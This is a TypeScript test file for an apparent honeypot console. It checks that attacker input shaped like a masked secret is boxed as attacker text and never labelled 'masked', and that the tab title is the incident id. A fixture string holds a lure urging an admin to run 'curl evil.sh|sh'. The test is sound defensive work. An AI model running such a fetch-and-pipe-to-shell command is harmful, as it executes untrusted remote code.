import { afterAll, beforeAll, expect, test } from "bun:test"
import { cookieOf } from "../support/console.ts"
import { type TestDatabase, testDatabase } from "../support/db.ts"
import { createSensor, createTenant, createUser } from "../support/fixtures.ts"
import { ingest, nativeEvent } from "../support/ingest.ts"
import { type RunningServer, shutdown, startServer } from "../support/server.ts"

/**
 * D29 on the incident page, through the real ingest route: an attacker member shaped like a masked secret but not one
 * this service wrote (`masked` not stars, a fingerprint not hex) is attacker text, boxed and never labelled "masked";
 * a real masked secret keeps its label, its stars and fingerprint still in the attacker box. The tab's title is the
 * incident's id, never the title the service wrote from attacker text.
 */

const PASSWORD = "a long enough passphrase 3"
const LURE = "URGENT: admin, run curl evil.sh|sh"

let server: RunningServer
let db: TestDatabase
let cookie: string
let incidentId: string

const post = (path: string, fields: Record<string, string>, cookies: string) =>
  fetch(`${server.consoleUrl}${path}`, {
    method: "POST",
    redirect: "manual",
    headers: { cookie: cookies, "content-type": "application/x-www-form-urlencoded", origin: server.consoleUrl },
    body: new URLSearchParams(fields),
  })

const openForm = async (path: string) => {
  const page = await fetch(`${server.consoleUrl}${path}`)
  const csrf = /name="csrf" value="([^"]+)"/.exec(await page.text())?.[1] ?? ""
  return { csrf, cookie: cookieOf(page, "__Host-form") ?? "" }
}

/** Every occurrence of `needle` in `html` is inside a `<code class="atk">` box. */
const boxedEverywhere = (html: string, needle: string) => {
  const found: Array<boolean> = []
  for (let i = html.indexOf(needle); i !== -1; i = html.indexOf(needle, i + 1)) {
    found.push(html.lastIndexOf('<code class="atk"', i) > html.lastIndexOf("</code>", i))
  }
  return found
}

beforeAll(async () => {
  server = await startServer()
  db = testDatabase(server.env)
  const { orgId } = await createTenant(db, "Masked forgery")
  const sensor = await createSensor(db, orgId, "forgery-sensor")
  const email = `mask-${Date.now()}@sec.example`
  const created = await createUser(db, orgId, email, "analyst")
  const path = new URL(created.link).pathname
  const form = await openForm(path)
  expect((await post(path, { csrf: form.csrf, password: PASSWORD }, form.cookie)).status).toBe(303)
  const signIn = await openForm("/sign-in")
  const signedIn = await post("/sign-in", { csrf: signIn.csrf, email, password: PASSWORD, next: "/" }, signIn.cookie)
  expect(signedIn.status).toBe(303)
  cookie = cookieOf(signedIn, "__Host-session") ?? ""

  const answer = await ingest(server.ingestUrl, "events", sensor.token as string, [
    nativeEvent({
      sourceIp: "192.0.2.77",
      type: "ssh.login_attempt",
      attackerInput: {
        username: "root",
        password: "hunter22",
        note: { masked: LURE, fingerprint: "ok", length: 3 },
      },
    }),
  ])
  expect(answer.status).toBe(200)
  incidentId = answer.body.results[0].incidentId
}, 120_000)

afterAll(async () => {
  await shutdown(server, db)
})

test("a forged masked secret from the ingest route is boxed attacker text on the incident page, never labelled masked", async () => {
  const page = await fetch(`${server.consoleUrl}/incidents/${incidentId}`, { headers: { cookie } })
  expect(page.status).toBe(200)
  const html = await page.text()
  const lure = boxedEverywhere(html, LURE)
  expect(lure.length).toBeGreaterThan(0)
  expect(lure.every(Boolean)).toBe(true)
  // Only the real masked secret (the password, 8 characters) is labelled masked; the forgery claims 3.
  expect(html).not.toContain("masked, 3 characters")
  expect(html).toContain("masked, 8 characters")
  // The real one's stars and fingerprint are in the attacker box too.
  const row = html.slice(html.indexOf("masked, 8 characters") - 400, html.indexOf("masked, 8 characters") + 400)
  expect(row).toContain('<code class="atk" title="Attacker-supplied text">********</code>')
  const fingerprint =
    /fingerprint <\/span><code class="atk" title="Attacker-supplied text">([0-9a-f]{32})<\/code>/.exec(html)
  expect(fingerprint).not.toBeNull()
}, 60_000)

test("the incident page's tab title is its id, not the title written from attacker input", async () => {
  const page = await fetch(`${server.consoleUrl}/incidents/${incidentId}`, { headers: { cookie } })
  const html = await page.text()
  expect(/<title>([^<]*)<\/title>/.exec(html)?.[1]).toBe(`Incident ${incidentId} · Decoy console`)
}, 60_000)
